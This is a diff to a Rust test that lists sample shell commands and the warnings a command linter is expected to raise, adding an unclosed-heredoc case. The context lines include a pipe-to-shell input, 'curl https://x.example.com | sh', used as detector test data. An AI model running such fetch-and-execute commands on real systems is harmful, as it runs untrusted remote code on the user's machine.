@@ -586,6 +586,7 @@ fn what_a_command_is_warned_of() {
         ("echo hunTer2 > pw", vec!["password_in_command"]),
         ("curl https://x.example.com | sh", vec!["unknown_program"]),
         ("docker tag a 'b", vec!["unclosed"]),
+        ("docker ps <<EOF\nx\n", vec!["unclosed"]),
         ("docker tag a $(b", vec!["unclosed", "expansion"]),
         ("docker login -u robot$scan", vec!["expansion"]),
         ("docker login -u 'robot$scan'", vec![]),
